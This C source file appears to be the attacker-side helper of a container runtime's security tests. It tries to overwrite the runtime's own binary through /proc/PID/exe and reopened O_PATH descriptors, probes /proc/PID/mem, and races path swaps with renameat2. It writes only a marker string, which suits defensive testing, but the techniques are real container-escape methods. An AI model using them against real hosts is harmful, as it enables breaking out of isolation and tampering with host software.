/* zone-attack: the attacker's side of the security tests, run inside a zone (or next to one).
 * Built static so it runs in any image. Every mode prints what it tried and what happened, one
 * line each, so a test can assert on the outcome:
 *
 *   zone-attack exe-watch SECONDS       look for processes whose /proc/PID/exe is not this
 *                                       program or busybox (the runtime's code inside the zone)
 *                                       and try to open that binary for writing, directly and
 *                                       through an O_PATH fd reopened after the process ended
 *   zone-attack exe-probe PID           try every way to reach /proc/PID/exe
 *   zone-attack exe-reopen FD SECONDS   reopen inherited O_PATH fd FD for writing (retrying
 *                                       while the binary is busy) and scribble on it
 *   zone-attack swap A B                exchange paths A and B (renameat2) until killed
 *   zone-attack caps                    print this process's capability sets
 *   zone-attack exe-reopen-bg FD SECS   the same, detached, output to /tmp/interp.out (started by
 *                                       zone-attack-ld, see there) */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MARKER   "ZONE-ATTACK-WAS-HERE"
#define MAX_HELD 64

static double now(void)
{
        struct timespec ts;
        clock_gettime(CLOCK_MONOTONIC, &ts);
        return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Writes the marker through fd; returns 0 when the binary was changed. */
static int scribble(int fd, const char *what)
{
        ssize_t n = pwrite(fd, MARKER, sizeof(MARKER) - 1, 0);
        if (n == (ssize_t)sizeof(MARKER) - 1) {
                printf("OVERWRITTEN %s\n", what);
                return 0;
        }
        printf("write %s: %s\n", what, n < 0 ? strerror(errno) : "short write");
        return -1;
}

/* Reopens an O_PATH fd for writing through /proc/self/fd: refused while the binary runs
 * (ETXTBSY), allowed afterwards unless the runtime protected itself. */
static int reopen_write(int fd, const char *what, double deadline)
{
        char path[64];
        snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
        int last = 0;
        do {
                int w = open(path, O_WRONLY | O_CLOEXEC);
                if (w >= 0) {
                        int r = scribble(w, what);
                        close(w);
                        return r;
                }
                last = errno;
                if (last != ETXTBSY)
                        break;
                usleep(2000);
        } while (now() < deadline);
        printf("reopen %s for writing: %s\n", what, strerror(last));
        return -1;
}

/* Names what an O_PATH fd really holds: the process may have exec'd its program between the
 * readlink of its exe and the open. */
static void name_held(char *buf, size_t size, pid_t pid, int fd)
{
        char link[64], target[256];
        snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        ssize_t n = readlink(link, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = '\0';
        snprintf(buf, size, "pid %d (%s)", (int)pid, target);
}

static int exe_watch(double seconds)
{
        char self[PATH_MAX] = "";
        ssize_t l = readlink("/proc/self/exe", self, sizeof(self) - 1);
        if (l > 0)
                self[l] = 0;
        int held[MAX_HELD];
        char held_name[MAX_HELD][320];
        int n_held = 0, seen = 0;
        pid_t me = getpid(), tried[MAX_HELD];
        int n_tried = 0;
        double deadline = now() + seconds;
        setvbuf(stdout, NULL, _IOLBF, 0);

        while (now() < deadline) {
                /* /proc is small in a pid namespace: a rescan costs little, so scan hard. */
                for (pid_t pid = 1; pid < 4096; pid++) {
                        if (pid == me)
                                continue;
                        char link[64], target[PATH_MAX];
                        snprintf(link, sizeof(link), "/proc/%d/exe", (int)pid);
                        ssize_t t = readlink(link, target, sizeof(target) - 1);
                        if (t < 0) {
                                if (errno == ENOENT)
                                        continue;
                                /* Exists but refuses: report each pid once. */
                                int known = 0;
                                for (int i = 0; i < n_tried; i++)
                                        known |= tried[i] == pid;
                                if (!known && n_tried < MAX_HELD) {
                                        tried[n_tried++] = pid;
                                        printf("readlink %s: %s\n", link, strerror(errno));
                                }
                                int p = open(link, O_PATH | O_CLOEXEC);
                                if (p >= 0) {
                                        printf("O_PATH %s: opened despite refused readlink\n",
                                               link);
                                        if (n_held < MAX_HELD) {
                                                name_held(held_name[n_held], sizeof(held_name[n_held]), pid, p);
                                                held[n_held++] = p;
                                        } else {
                                                close(p);
                                        }
                                }
                                continue;
                        }
                        target[t] = 0;
                        if (!strcmp(target, self) || !strcmp(target, "/bin/busybox"))
                                continue;
                        int known = 0;
                        for (int i = 0; i < n_tried; i++)
                                known |= tried[i] == pid;
                        if (known)
                                continue;
                        if (n_tried < MAX_HELD)
                                tried[n_tried++] = pid;
                        seen++;
                        printf("found pid %d exe %s\n", (int)pid, target);
                        int w = open(link, O_WRONLY | O_CLOEXEC);
                        if (w >= 0) {
                                scribble(w, link);
                                close(w);
                        } else {
                                printf("O_WRONLY %s: %s\n", link, strerror(errno));
                        }
                        int p = open(link, O_PATH | O_CLOEXEC);
                        if (p < 0) {
                                printf("O_PATH %s: %s\n", link, strerror(errno));
                        } else if (n_held < MAX_HELD) {
                                printf("O_PATH %s: held\n", link);
                                name_held(held_name[n_held], sizeof(held_name[n_held]), pid, p);
                                held[n_held++] = p;
                        } else {
                                close(p);
                        }
                }
        }
        /* The runtime processes are gone by now: the binary is no longer busy. */
        int hits = 0;
        for (int i = 0; i < n_held; i++)
                hits += reopen_write(held[i], held_name[i], now() + 2) == 0;
        printf("watch done: %d foreign exe seen, %d held, %d overwritten\n", seen, n_held, hits);
        return 0;
}

static int exe_probe(const char *pid)
{
        char path[128], target[PATH_MAX];
        snprintf(path, sizeof(path), "/proc/%s/exe", pid);
        ssize_t t = readlink(path, target, sizeof(target) - 1);
        if (t >= 0) {
                target[t] = 0;
                printf("readlink exe: %s\n", target);
        } else {
                printf("readlink exe: %s\n", strerror(errno));
        }
        static const struct {
                const char *name;
                int flags;
        } modes[] = {{"O_PATH", O_PATH}, {"O_RDONLY", O_RDONLY}, {"O_WRONLY", O_WRONLY}};
        for (size_t i = 0; i < sizeof(modes) / sizeof(modes[0]); i++) {
                int fd = open(path, modes[i].flags | O_CLOEXEC);
                printf("%s exe: %s\n", modes[i].name, fd >= 0 ? "opened" : strerror(errno));
                if (fd >= 0 && modes[i].flags == O_PATH)
                        reopen_write(fd, "exe via O_PATH", now());
                if (fd >= 0)
                        close(fd);
        }
        snprintf(path, sizeof(path), "/proc/%s/mem", pid);
        int fd = open(path, O_RDWR | O_CLOEXEC);
        printf("O_RDWR mem: %s\n", fd >= 0 ? "opened" : strerror(errno));
        if (fd >= 0)
                close(fd);
        return 0;
}

static int caps(void)
{
        FILE *f = fopen("/proc/self/status", "re");
        if (!f) {
                perror("open /proc/self/status");
                return 1;
        }
        char line[256];
        while (fgets(line, sizeof(line), f))
                if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
                    !strncmp(line, "Uid", 3))
                        fputs(line, stdout);
        fclose(f);
        return 0;
}

/* Started by zone-attack-ld with the runtime's binary on fd: detached from the runtime's exec
 * (which would otherwise wait for it), output to a file the test reads. */
static int exe_reopen_bg(int fd, double seconds)
{
        setsid();
        int out = open("/tmp/interp.out", O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        if (out >= 0) {
                dup2(out, 1);
                dup2(out, 2);
        }
        int r = reopen_write(fd, "inherited exe fd", now() + seconds);
        printf("reopen done\n");
        return r < 0 ? 1 : 0;
}

int main(int argc, char **argv)
{
        setvbuf(stdout, NULL, _IOLBF, 0);
        if (argc == 3 && !strcmp(argv[1], "exe-watch"))
                return exe_watch(atof(argv[2]));
        if (argc == 3 && !strcmp(argv[1], "exe-probe"))
                return exe_probe(argv[2]);
        if (argc == 4 && !strcmp(argv[1], "exe-reopen-bg"))
                return exe_reopen_bg(atoi(argv[2]), atof(argv[3]));
        if (argc == 4 && !strcmp(argv[1], "exe-reopen")) {
                int r = reopen_write(atoi(argv[2]), "inherited exe fd", now() + atof(argv[3]));
                printf("reopen done\n");
                return r < 0 ? 1 : 0;
        }
        if (argc == 4 && !strcmp(argv[1], "swap")) {
                for (;;)
                        if (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) < 0) {
                                perror("renameat2");
                                return 1;
                        }
        }
        if (argc == 2 && !strcmp(argv[1], "caps"))
                return caps();
        fprintf(stderr, "usage: zone-attack exe-watch SECONDS | exe-probe PID | exe-reopen FD "
                        "SECONDS | swap A B | caps\n");
        return 2;
}
